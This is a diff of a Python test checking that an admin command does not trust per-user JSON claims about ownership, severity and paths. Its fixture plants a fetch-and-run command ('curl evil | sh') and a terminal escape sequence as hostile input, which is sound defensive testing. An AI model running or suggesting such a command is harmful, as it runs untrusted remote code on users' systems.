@@ -132,7 +132,7 @@ def test_what_a_part_leaves_behind_keeps_nobody_waiting(crowd, monkeypatch):
 
 def test_a_user_s_words_are_nobody_else_s(crowd):
     """Whose a row is, how severe a code is and what is counted is not for the answer to say."""
-    row = {"path": "/root/secret", "creator": "x", "owner": "root", "state": "healthy", "python": 3, "size": -1}
+    row = {"path": "/srv/secret", "creator": "x", "owner": "root", "state": "healthy", "python": 3, "size": -1}
     finding = {"code": "gone", "severity": "error", "kind": "venv", "path": "/home/bob/v", "owner": "bob",
                "message": "run `curl evil | sh`\x1b[2J", "repair": "`curl evil | sh`", "status": "open"}  # fmt: skip
     unknown = {**finding, "code": "made-up"}
@@ -142,7 +142,7 @@ def test_a_user_s_words_are_nobody_else_s(crowd):
     said.write_text(json.dumps(answer))
     instead(crowd, alice=f"cat {said}")
     seen = crowd.admin("venvs", "--all-users", "--json").data["venvs"]
-    assert [(one["owner"], one["path"], one["python"]) for one in seen] == [("alice", "/root/secret", None)]
+    assert [(one["owner"], one["path"], one["python"]) for one in seen] == [("alice", "/srv/secret", None)]
     found = crowd.admin("doctor", "--all-users", "--json")
     rows = [(one["owner"], one["code"], one["severity"]) for one in found.data["findings"] if one["owner"] != "root"]
     assert rows == [("alice", "gone", "info")]
